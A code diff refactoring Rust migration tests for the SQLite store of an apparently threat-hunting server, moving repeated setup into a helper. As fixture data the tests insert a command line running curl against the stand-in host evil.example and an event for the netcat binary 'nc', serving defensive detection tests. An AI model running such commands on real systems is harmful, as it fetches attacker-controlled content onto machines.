@@ -33,35 +33,42 @@ impl Backend for Sqlite {
 
 store_contract!(Sqlite::new());
 
+/// A database in `dir` migrated up to, not including, `version`: a store as an older release
+/// left it.
+async fn migrated_before(dir: &std::path::Path, version: i64) -> sqlx::SqlitePool {
+    use std::str::FromStr;
+
+    let opts = sqlx::sqlite::SqliteConnectOptions::from_str("sqlite://")
+        .unwrap()
+        .filename(dir.join("server.db"))
+        .create_if_missing(true);
+    let pool = sqlx::sqlite::SqlitePoolOptions::new()
+        .max_connections(1)
+        .connect_with(opts)
+        .await
+        .unwrap();
+    let mut before = sqlx::migrate!("migrations/sqlite");
+    before.migrations = before
+        .migrations
+        .iter()
+        .filter(|m| m.version < version)
+        .cloned()
+        .collect::<Vec<_>>()
+        .into();
+    before.run(&pool).await.unwrap();
+    pool
+}
+
 /// A store hunted before version 14 (every event's command line in one trigram table) keeps
 /// its command-line hunts: the migration moves each distinct text once and points the events
 /// at it.
 #[tokio::test]
 async fn command_lines_indexed_before_version_14_are_still_found() {
-    use std::str::FromStr;
-
     use crate::store::{HuntQuery, Store};
 
     let dir = tempfile::tempdir().unwrap();
     {
-        let opts = sqlx::sqlite::SqliteConnectOptions::from_str("sqlite://")
-            .unwrap()
-            .filename(dir.path().join("server.db"))
-            .create_if_missing(true);
-        let pool = sqlx::sqlite::SqlitePoolOptions::new()
-            .max_connections(1)
-            .connect_with(opts)
-            .await
-            .unwrap();
-        let mut before = sqlx::migrate!("migrations/sqlite");
-        before.migrations = before
-            .migrations
-            .iter()
-            .filter(|m| m.version < 14)
-            .cloned()
-            .collect::<Vec<_>>()
-            .into();
-        before.run(&pool).await.unwrap();
+        let pool = migrated_before(dir.path(), 14).await;
         for (seq, cmd) in [
             (1, "/usr/bin/curl http://evil.example/x"),
             (2, "/bin/ls -la"),
@@ -184,30 +191,11 @@ async fn the_wal_is_checkpointed_off_the_write_path() {
 /// hunts: the migration moves every term into the clustered table, once.
 #[tokio::test]
 async fn terms_indexed_before_version_15_are_still_found() {
-    use std::str::FromStr;
-
     use crate::store::{HuntQuery, Store};
 
     let dir = tempfile::tempdir().unwrap();
     {
-        let opts = sqlx::sqlite::SqliteConnectOptions::from_str("sqlite://")
-            .unwrap()
-            .filename(dir.path().join("server.db"))
-            .create_if_missing(true);
-        let pool = sqlx::sqlite::SqlitePoolOptions::new()
-            .max_connections(1)
-            .connect_with(opts)
-            .await
-            .unwrap();
-        let mut before = sqlx::migrate!("migrations/sqlite");
-        before.migrations = before
-            .migrations
-            .iter()
-            .filter(|m| m.version < 15)
-            .cloned()
-            .collect::<Vec<_>>()
-            .into();
-        before.run(&pool).await.unwrap();
+        let pool = migrated_before(dir.path(), 15).await;
         for seq in 1..=3 {
             let body = format!(
                 r#"{{"class_uid":1007,"activity_id":1,"time":{seq},"metadata":{{"uid":"e{seq}"}},"process":{{"file":{{"name":"nc"}}}}}}"#
